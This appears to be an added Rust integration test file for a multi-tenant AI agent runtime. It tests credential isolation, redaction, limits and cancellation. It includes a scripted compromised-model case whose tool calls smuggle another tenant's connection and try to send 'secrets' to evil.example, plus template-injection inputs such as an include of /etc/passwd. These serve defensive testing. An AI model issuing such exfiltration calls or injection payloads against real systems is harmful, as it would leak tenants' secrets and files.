@@ -1,0 +1,794 @@
+//! The agent runtime through the router, against the fake model provider
+//! and the SaaS stand-in: two tenants at once, each with its own
+//! credentials; the compromised-model suite; inert template injection;
+//! provenance; limits, cancellation and settings.
+
+use std::sync::Arc;
+
+use axum::body::Body;
+use axum::http::Request;
+use bulkhead_testkit::{FakeProvider, Reply, SaasStandIn, ToolCall};
+use http_body_util::BodyExt;
+use serde_json::{Value, json};
+use tower::ServiceExt;
+
+use crate::support::*;
+
+const ACME_SLACK: &str = "xoxb-acme-canary-7f3a9c2e51d04b8e";
+const GLOBEX_SLACK: &str = "xoxb-globex-canary-0c8e4d1f2a6b9e3c";
+const ACME_STATUS: &str = "status-acme-canary-5d2f8a1c9e7b4036";
+
+fn tables(fake: &FakeProvider, saas: &SaasStandIn) -> String {
+    let base = fake.base_url();
+    let s = saas.base_url();
+    let host = saas.addr().to_string();
+    format!(
+        r#"
+[[providers]]
+name = "fake-eu"
+kind = "openai"
+base_url = "{base}/v1"
+region = "eu"
+credential = "env:FAKE_KEY"
+timeout_s = 10
+max_retries = 0
+[[providers]]
+name = "fake-us"
+kind = "openai"
+base_url = "{base}/v1"
+region = "us"
+credential = "env:FAKE_KEY"
+[[models]]
+name = "small"
+provider = "fake-eu"
+upstream = "gpt-4o-mini"
+[[models]]
+name = "small-us"
+provider = "fake-us"
+upstream = "gpt-4o-mini"
+[[tools]]
+name = "slack"
+kind = "slack"
+base_url = "{s}"
+region = "eu"
+connection = "slack"
+[[tools]]
+name = "jira"
+kind = "jira"
+base_url = "{s}"
+region = "eu"
+connection = "jira"
+[[tools]]
+name = "fetch"
+kind = "http"
+region = "eu"
+url = "http://{{{{ host }}}}/collect?d={{{{ data }}}}"
+allowed_hosts = ["{host}"]
+[tools.parameters]
+type = "object"
+required = ["host", "data"]
+additionalProperties = false
+properties.host = {{ type = "string" }}
+properties.data = {{ type = "string" }}
+[[tools]]
+name = "status"
+kind = "http"
+region = "eu"
+connection = "status"
+url = "{s}/status/200"
+allowed_hosts = ["{host}"]
+[tools.parameters]
+type = "object"
+additionalProperties = false
+[[agents]]
+name = "support"
+description = "Answers and files incidents."
+model = "small"
+prompt = "You are {{{{ agent.name }}}} for {{{{ tenant.id }}}}. Team: {{{{ vars.team | default('ops') }}}}."
+tools = ["slack", "jira", "fetch", "status"]
+max_steps = 3
+[[agents]]
+name = "strict"
+model = "small"
+prompt = "Team {{{{ vars.team }}}}."
+[[agents]]
+name = "quick"
+model = "small"
+prompt = "Be quick."
+timeout_s = 1
+[[agents]]
+name = "us-agent"
+model = "small-us"
+prompt = "US agent."
+"#
+    )
+}
+
+struct World {
+    fake: FakeProvider,
+    saas: SaasStandIn,
+    app: TestApp,
+    acme: String,
+    globex: String,
+}
+
+async fn world() -> World {
+    let fake = FakeProvider::start().await;
+    let saas = SaasStandIn::start().await;
+    let app = TestApp::with_config("", &tables(&fake, &saas)).await;
+    app.create_tenant("acme", "eu").await;
+    app.create_tenant("globex", "eu").await;
+    let (_, acme) = app.api_key("acme", &["admin"]).await;
+    let (_, globex) = app.api_key("globex", &["admin"]).await;
+    for (key, conn, secret) in [
+        (&acme, "slack", ACME_SLACK),
+        (&globex, "slack", GLOBEX_SLACK),
+        (&acme, "status", ACME_STATUS),
+    ] {
+        let r = app
+            .call(
+                "PUT",
+                &format!("/v1/credentials/{conn}"),
+                Some(key),
+                Some(json!({"kind": "bearer", "secret": secret})),
+            )
+            .await;
+        assert_eq!(r.status, 201, "{}", r.body);
+    }
+    World {
+        fake,
+        saas,
+        app,
+        acme,
+        globex,
+    }
+}
+
+async fn run(app: &TestApp, key: &str, agent: &str, input: &str) -> Value {
+    let r = app
+        .call(
+            "POST",
+            &format!("/v1/agents/{agent}/runs"),
+            Some(key),
+            Some(json!({"input": input})),
+        )
+        .await;
+    assert_eq!(r.status, 200, "{}", r.body);
+    r.body
+}
+
+fn last_message(request: &Value) -> Value {
+    request["messages"]
+        .as_array()
+        .and_then(|m| m.last())
+        .cloned()
+        .unwrap_or(Value::Null)
+}
+
+fn steps_of(run: &Value, kind: &str) -> Vec<Value> {
+    run["steps"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|s| s["kind"] == kind)
+        .cloned()
+        .collect()
+}
+
+/// Every model request the fake received, as text.
+fn model_traffic(fake: &FakeProvider) -> String {
+    fake.requests()
+        .iter()
+        .map(|r| r.body.to_string())
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+#[tokio::test]
+async fn two_tenants_run_the_same_agent_concurrently_each_with_its_own_credential() {
+    let w = world().await;
+    // A model that posts the user's text to Slack, then answers.
+    w.fake.set_responder(|req| {
+        let last = last_message(req);
+        match last["role"].as_str() {
+            Some("user") => Some(Reply::tool_call(
+                "slack",
+                json!({"channel": "#incidents", "text": last["content"]}),
+            )),
+            Some("tool") => Some(Reply::text("posted")),
+            _ => None,
+        }
+    });
+    let app = Arc::new(w.app);
+    let mut tasks = Vec::new();
+    for i in 0..6 {
+        for (tenant, key) in [("acme", w.acme.clone()), ("globex", w.globex.clone())] {
+            let app = app.clone();
+            tasks.push(tokio::spawn(async move {
+                let r = run(&app, &key, "support", &format!("{tenant}-incident-{i}")).await;
+                assert_eq!(r["status"], "completed", "{r}");
+                assert_eq!(r["output"], "posted");
+                r
+            }));
+        }
+    }
+    for t in tasks {
+        t.await.unwrap();
+    }
+    let posts: Vec<_> = w
+        .saas
+        .requests()
+        .into_iter()
+        .filter(|r| r.path == "/api/chat.postMessage")
+        .collect();
+    assert_eq!(posts.len(), 12);
+    for p in posts {
+        let body = p.json().unwrap();
+        let text = body["text"].as_str().unwrap();
+        let auth = p.header("authorization").unwrap();
+        if text.starts_with("acme-") {
+            assert_eq!(auth, format!("Bearer {ACME_SLACK}"));
+        } else {
+            assert!(text.starts_with("globex-"), "{text}");
+            assert_eq!(auth, format!("Bearer {GLOBEX_SLACK}"));
+        }
+    }
+    // No credential ever reached a model; no tenant's text reached the
+    // other tenant's conversation.
+    for req in w.fake.requests() {
+        let text = req.body.to_string();
+        assert!(!text.contains(ACME_SLACK) && !text.contains(GLOBEX_SLACK));
+        assert!(!(text.contains("acme-incident") && text.contains("globex-incident")));
+    }
+    // Audit: each tenant's chain has its own tool calls, without secrets.
+    for (key, secret) in [(&w.acme, ACME_SLACK), (&w.globex, GLOBEX_SLACK)] {
+        let events = app.audit(key).await;
+        assert_eq!(
+            events.iter().filter(|e| e["action"] == "tool.call").count(),
+            6
+        );
+        assert_eq!(
+            events
+                .iter()
+                .filter(|e| e["action"] == "run.finish")
+                .count(),
+            6
+        );
+        assert!(!Value::Array(events).to_string().contains(secret));
+    }
+}
+
+#[tokio::test]
+async fn a_hostile_model_is_refused_audited_and_the_run_ends_cleanly() {
+    let w = world().await;
+    w.fake.push_all([
+        // Another tenant's connection, smuggled as an argument; a tool
+        // that is not the agent's; malformed JSON; exfiltration to a host
+        // off the allow-list — all in one turn.
+        Reply::tool_calls([
+            ToolCall::new(
+                "slack",
+                json!({"channel": "#x", "text": "hi", "connection": "globex-slack"}),
+            ),
+            ToolCall::new("globex_slack", json!({"channel": "#x", "text": "hi"})),
+            ToolCall::raw("jira", "{\"project\": \"OPS\", \"summary\": "),
+            ToolCall::new("fetch", json!({"host": "evil.example", "data": "secrets"})),
+        ]),
+        Reply::text("I could not do any of that."),
+    ]);
+    let r = run(&w.app, &w.acme, "support", "do bad things").await;
+    assert_eq!(r["status"], "completed", "{r}");
+    let refused = steps_of(&r, "tool_refused");
+    let codes: Vec<&str> = refused
+        .iter()
+        .map(|s| s["data"]["code"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        codes,
+        ["invalid_arguments", "unknown_tool", "invalid_arguments"]
+    );
+    let results = steps_of(&r, "tool_result");
+    assert_eq!(results.len(), 1);
+    assert_eq!(results[0]["data"]["code"], "host_not_allowed");
+    // Nothing reached the stand-in (the fetch host was refused before sending).
+    assert!(w.saas.requests().is_empty());
+    // The model saw a refusal for each of its four calls.
+    let second = &w.fake.requests()[1].body;
+    let tool_msgs: Vec<&Value> = second["messages"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|m| m["role"] == "tool")
+        .collect();
+    assert_eq!(tool_msgs.len(), 4);
+    let events = w.app.audit(&w.acme).await;
+    assert_eq!(
+        events
+            .iter()
+            .filter(|e| e["action"] == "tool.refused")
+            .count(),
+        3
+    );
+    let denied = events.iter().find(|e| e["action"] == "tool.call").unwrap();
+    assert_eq!(denied["outcome"], "denied");
+}
+
+#[tokio::test]
+async fn a_model_that_loops_forever_is_stopped_at_the_step_limit() {
+    let w = world().await;
+    w.fake.set_responder(|_| {
+        Some(Reply::tool_call(
+            "slack",
+            json!({"channel": "#loop", "text": "again"}),
+        ))
+    });
+    let r = run(&w.app, &w.acme, "support", "loop").await;
+    assert_eq!(r["status"], "failed");
+    assert_eq!(r["error"]["code"], "step_limit");
+    // max_steps = 3 model calls, each followed by its tool call.
+    assert_eq!(w.fake.request_count(), 3);
+    assert_eq!(w.saas.requests().len(), 3);
+    let events = w.app.audit(&w.acme).await;
+    let finish = events.iter().find(|e| e["action"] == "run.finish").unwrap();
+    assert_eq!(finish["outcome"], "failure");
+    assert_eq!(finish["details"]["error"], "step_limit");
+}
+
+#[tokio::test]
+async fn template_syntax_from_tenants_and_models_is_inert() {
+    let w = world().await;
+    let r = w
+        .app
+        .call(
+            "PUT",
+            "/v1/agents/support/settings",
+            Some(&w.acme),
+            Some(json!({
+                "variables": {"team": "{{ 7*7 }} {% for x in range(3) %}loop{% endfor %}"},
+                "instructions": "{{ vars }} {{ tenant.id }} {% include '/etc/passwd' %}",
+            })),
+        )
+        .await;
+    assert_eq!(r.status, 200, "{}", r.body);
+    w.fake.push_all([
+        Reply::tool_call(
+            "slack",
+            json!({"channel": "#x", "text": "{{ 6*7 }} {% raw %}"}),
+        ),
+        Reply::text("{{ config }}"),
+    ]);
+    let r = run(&w.app, &w.acme, "support", "input {{ 1111*3 }}").await;
+    assert_eq!(r["status"], "completed", "{r}");
+    assert_eq!(r["output"], "{{ config }}");
+    let first = w.fake.requests()[0].body.to_string();
+    for literal in [
+        "{{ 7*7 }} {% for x in range(3) %}loop{% endfor %}",
+        "{{ vars }} {{ tenant.id }} {% include '/etc/passwd' %}",
+        "input {{ 1111*3 }}",
+    ] {
+        assert!(first.contains(literal), "{literal} not literal in {first}");
+    }
+    for evaluated in ["49", "looploop", "3333", "root:"] {
+        assert!(!first.contains(evaluated), "{evaluated} in {first}");
+    }
+    let post = w.saas.requests()[0].json().unwrap();
+    assert_eq!(post["text"], "{{ 6*7 }} {% raw %}");
+}
+
+#[tokio::test]
+async fn tool_output_is_redacted_before_the_model_sees_it() {
+    let w = world().await;
+    // The stand-in's /status/200 echoes the Authorization header back.
+    w.fake
+        .push_all([Reply::tool_call("status", json!({})), Reply::text("ok")]);
+    let r = run(&w.app, &w.acme, "support", "check").await;
+    assert_eq!(r["status"], "completed", "{r}");
+    let sent = w.saas.requests();
+    assert_eq!(
+        sent[0].header("authorization"),
+        Some(format!("Bearer {ACME_STATUS}").as_str())
+    );
+    let traffic = model_traffic(&w.fake);
+    assert!(traffic.contains("[redacted]"), "{traffic}");
+    assert!(!traffic.contains(ACME_STATUS));
+    assert!(!r.to_string().contains(ACME_STATUS));
+    assert!(
+        !Value::Array(w.app.audit(&w.acme).await)
+            .to_string()
+            .contains(ACME_STATUS)
+    );
+}
+
+#[tokio::test]
+async fn a_fragment_owned_by_another_tenant_is_refused_before_any_model_call() {
+    let w = world().await;
+    w.fake.push(Reply::text("first answer"));
+    let r = run(&w.app, &w.acme, "support", "hello").await;
+    let thread = r["thread_id"].as_str().unwrap().to_owned();
+    // Simulate a bug that put globex's text into acme's thread.
+    let globex_uid = w.app.scope(&w.globex).await.partition();
+    let acme_uid = w.app.scope(&w.acme).await.partition();
+    let db = w
+        .app
+        .dir
+        .path()
+        .join("data/tenants")
+        .join(acme_uid.to_string())
+        .join("tenant.db");
+    let conn = rusqlite::Connection::open(db).unwrap();
+    conn.execute(
+        "INSERT INTO messages (thread_id, seq, owner, run_id, message, time) VALUES (?1, 99, ?2, NULL, ?3, '2026-01-01T00:00:00Z')",
+        rusqlite::params![thread, globex_uid.to_string(), json!({"role": "user", "content": "globex secret plans"}).to_string()],
+    )
+    .unwrap();
+    drop(conn);
+    let before = w.fake.request_count();
+    let r = w
+        .app
+        .call(
+            "POST",
+            "/v1/agents/support/runs",
+            Some(&w.acme),
+            Some(json!({"input": "continue", "thread_id": thread})),
+        )
+        .await;
+    assert_eq!(r.status, 200, "{}", r.body);
+    assert_eq!(r.body["status"], "failed");
+    assert_eq!(r.body["error"]["code"], "foreign_fragment");
+    assert_eq!(
+        w.fake.request_count(),
+        before,
+        "nothing may reach the model"
+    );
+    let events = w.app.audit(&w.acme).await;
+    assert!(
+        events
+            .iter()
+            .any(|e| e["action"] == "security.foreign_fragment")
+    );
+}
+
+#[tokio::test]
+async fn runs_and_threads_are_readable_only_by_their_tenant() {
+    let w = world().await;
+    w.fake.push_all([Reply::text("one"), Reply::text("two")]);
+    let r = run(&w.app, &w.acme, "support", "first").await;
+    let (run_id, thread) = (
+        r["id"].as_str().unwrap().to_owned(),
+        r["thread_id"].as_str().unwrap().to_owned(),
+    );
+    // The thread continues, with its history sent to the model.
+    let r2 = w
+        .app
+        .call(
+            "POST",
+            "/v1/agents/support/runs",
+            Some(&w.acme),
+            Some(json!({"input": "second", "thread_id": thread})),
+        )
+        .await;
+    assert_eq!(r2.body["thread_id"], thread);
+    let msgs = w.fake.requests()[1].body["messages"].clone();
+    let contents: Vec<&str> = msgs
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|m| m["content"].as_str())
+        .collect();
+    assert!(
+        contents.contains(&"first") && contents.contains(&"one") && contents.contains(&"second")
+    );
+    let own = w
+        .app
+        .call(
+            "GET",
+            &format!("/v1/threads/{thread}/messages"),
+            Some(&w.acme),
+            None,
+        )
+        .await;
+    assert_eq!(own.status, 200);
+    assert_eq!(own.body["messages"].as_array().unwrap().len(), 4);
+    for path in [
+        format!("/v1/runs/{run_id}"),
+        format!("/v1/threads/{thread}/messages"),
+    ] {
+        let r = w.app.call("GET", &path, Some(&w.globex), None).await;
+        r.assert_problem(404, "not_found");
+    }
+    let r = w
+        .app
+        .call(
+            "POST",
+            "/v1/agents/support/runs",
+            Some(&w.globex),
+            Some(json!({"input": "x", "thread_id": thread})),
+        )
+        .await;
+    r.assert_problem(404, "not_found");
+    let r = w
+        .app
+        .call(
+            "POST",
+            &format!("/v1/runs/{run_id}/cancel"),
+            Some(&w.globex),
+            None,
+        )
+        .await;
+    r.assert_problem(404, "not_found");
+    let r = w
+        .app
+        .call(
+            "POST",
+            &format!("/v1/runs/{run_id}/cancel"),
+            Some(&w.acme),
+            None,
+        )
+        .await;
+    r.assert_problem(409, "run_finished");
+}
+
+#[tokio::test]
+async fn agents_are_listed_by_region_and_settings_are_validated() {
+    let w = world().await;
+    w.app.create_tenant("initech", "us").await;
+    let (_, us) = w.app.api_key("initech", &["admin"]).await;
+    let names = |b: &Value| -> Vec<String> {
+        b["agents"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|a| a["name"].as_str().unwrap().to_owned())
+            .collect()
+    };
+    let eu = w.app.call("GET", "/v1/agents", Some(&w.acme), None).await;
+    assert_eq!(names(&eu.body), ["quick", "strict", "support"]);
+    let r = w.app.call("GET", "/v1/agents", Some(&us), None).await;
+    assert_eq!(names(&r.body), ["us-agent"]);
+    // An agent of another region does not exist for this tenant.
+    let r = w
+        .app
+        .call(
+            "POST",
+            "/v1/agents/support/runs",
+            Some(&us),
+            Some(json!({"input": "x"})),
+        )
+        .await;
+    r.assert_problem(404, "not_found");
+    for (body, needle) in [
+        (
+            json!({"variables": {"bad name": "x"}}),
+            "variables.bad name",
+        ),
+        (json!({"connections": {"ghost": "x"}}), "connections.ghost"),
+        (
+            json!({"connections": {"slack": "Not A Name"}}),
+            "connections.slack",
+        ),
+        (
+            json!({"variables": (0..65).map(|i| (format!("v{i}"), json!("x"))).collect::<serde_json::Map<_, _>>()}),
+            "at most 64",
+        ),
+    ] {
+        let r = w
+            .app
+            .call(
+                "PUT",
+                "/v1/agents/support/settings",
+                Some(&w.acme),
+                Some(body),
+            )
+            .await;
+        r.assert_problem(400, "validation_failed");
+        assert!(
+            r.body["detail"].as_str().unwrap().contains(needle),
+            "{}",
+            r.body
+        );
+    }
+    let r = w
+        .app
+        .call(
+            "PUT",
+            "/v1/agents/support/settings",
+            Some(&w.acme),
+            Some(json!({"unknown": 1})),
+        )
+        .await;
+    assert_eq!(r.status, 400);
+    // Members may run agents but not change their settings.
+    let (_, member) = w.app.api_key("acme", &["member"]).await;
+    let r = w
+        .app
+        .call(
+            "PUT",
+            "/v1/agents/support/settings",
+            Some(&member),
+            Some(json!({})),
+        )
+        .await;
+    r.assert_problem(403, "forbidden");
+    // A strict template without its variable: a clear 422, nothing stored.
+    let r = w
+        .app
+        .call(
+            "POST",
+            "/v1/agents/strict/runs",
+            Some(&member),
+            Some(json!({"input": "x"})),
+        )
+        .await;
+    r.assert_problem(422, "prompt_error");
+    assert!(
+        r.body["detail"]
+            .as_str()
+            .unwrap()
+            .contains("/v1/agents/strict/settings")
+    );
+    // Disabled: refused.
+    let r = w
+        .app
+        .call(
+            "PUT",
+            "/v1/agents/strict/settings",
+            Some(&w.acme),
+            Some(json!({"enabled": false, "variables": {"team": "a"}})),
+        )
+        .await;
+    assert_eq!(r.status, 200, "{}", r.body);
+    let r = w
+        .app
+        .call(
+            "POST",
+            "/v1/agents/strict/runs",
+            Some(&member),
+            Some(json!({"input": "x"})),
+        )
+        .await;
+    r.assert_problem(409, "agent_disabled");
+    let r = w
+        .app
+        .call(
+            "POST",
+            "/v1/agents/support/runs",
+            Some(&member),
+            Some(json!({"input": "  "})),
+        )
+        .await;
+    r.assert_problem(400, "validation_failed");
+    assert_eq!(w.fake.request_count(), 0);
+}
+
+/// Reads an SSE response frame by frame until `stop` says so.
+async fn sse_events(app: &TestApp, key: &str, agent: &str, body: Value) -> axum::body::Body {
+    let req = Request::post(format!("/v1/agents/{agent}/runs"))
+        .header("authorization", format!("Bearer {key}"))
+        .header("content-type", "application/json")
+        .body(Body::from(body.to_string()))
+        .unwrap();
+    let res = app.router.clone().oneshot(req).await.unwrap();
+    assert_eq!(res.status(), 200);
+    assert_eq!(res.headers()["content-type"], "text/event-stream");
+    res.into_body()
+}
+
+async fn next_event(body: &mut Body) -> Option<(String, Value)> {
+    let frame = body.frame().await?.unwrap();
+    let bytes = frame.into_data().unwrap();
+    let text = String::from_utf8(bytes.to_vec()).unwrap();
+    let mut name = String::new();
+    let mut data = Value::Null;
+    for line in text.lines() {
+        if let Some(n) = line.strip_prefix("event: ") {
+            name = n.to_owned();
+        } else if let Some(d) = line.strip_prefix("data: ") {
+            data = serde_json::from_str(d).unwrap();
+        }
+    }
+    Some((name, data))
+}
+
+#[tokio::test]
+async fn a_streamed_run_reports_each_step_and_can_be_cancelled() {
+    let w = world().await;
+    w.fake.push_all([
+        Reply::tool_call("slack", json!({"channel": "#s", "text": "t"})),
+        Reply::text("done"),
+    ]);
+    let mut body = sse_events(
+        &w.app,
+        &w.acme,
+        "support",
+        json!({"input": "go", "stream": true}),
+    )
+    .await;
+    let mut names = Vec::new();
+    while let Some((name, data)) = next_event(&mut body).await {
+        if name == "done" {
+            assert_eq!(data["output"], "done");
+        }
+        names.push(name);
+    }
+    assert_eq!(
+        names,
+        [
+            "run",
+            "step",
+            "model_call",
+            "tool_call",
+            "tool_result",
+            "step",
+            "model_call",
+            "message",
+            "done"
+        ]
+    );
+
+    // A model that takes long: cancel the run while it waits.
+    w.fake.push(Reply::delay(
+        std::time::Duration::from_secs(30),
+        Reply::text("late"),
+    ));
+    let mut body = sse_events(
+        &w.app,
+        &w.acme,
+        "support",
+        json!({"input": "slow", "stream": true}),
+    )
+    .await;
+    let (name, data) = next_event(&mut body).await.unwrap();
+    assert_eq!(name, "run");
+    let id = data["run_id"].as_str().unwrap().to_owned();
+    let r = w
+        .app
+        .call(
+            "POST",
+            &format!("/v1/runs/{id}/cancel"),
+            Some(&w.acme),
+            None,
+        )
+        .await;
+    assert_eq!(r.status, 202, "{}", r.body);
+    let mut last = None;
+    while let Some(ev) = next_event(&mut body).await {
+        last = Some(ev);
+    }
+    let (name, data) = last.unwrap();
+    assert_eq!(name, "error");
+    assert_eq!(data["code"], "cancelled");
+    let r = w
+        .app
+        .call("GET", &format!("/v1/runs/{id}"), Some(&w.acme), None)
+        .await;
+    assert_eq!(r.body["status"], "cancelled");
+}
+
+#[tokio::test]
+async fn a_run_past_its_timeout_fails_with_a_clear_code() {
+    let w = world().await;
+    w.fake.push(Reply::delay(
+        std::time::Duration::from_secs(20),
+        Reply::text("late"),
+    ));
+    let r = run(&w.app, &w.acme, "quick", "wait").await;
+    assert_eq!(r["status"], "failed");
+    assert_eq!(r["error"]["code"], "timeout");
+    assert!(r["error"]["message"].as_str().unwrap().contains("1 s"));
+}
+
+#[tokio::test]
+async fn a_missing_tenant_connection_is_reported_to_the_model_not_borrowed() {
+    let w = world().await;
+    // globex has no jira connection; acme has none either, but acme's
+    // slack must not stand in for it.
+    w.fake.push_all([
+        Reply::tool_call("jira", json!({"project": "OPS", "summary": "x"})),
+        Reply::text("no jira"),
+    ]);
+    let r = run(&w.app, &w.globex, "support", "file it").await;
+    assert_eq!(r["status"], "completed");
+    let res = steps_of(&r, "tool_result");
+    assert_eq!(res[0]["data"]["code"], "missing_credential");
+    assert!(w.saas.requests().is_empty());
+}
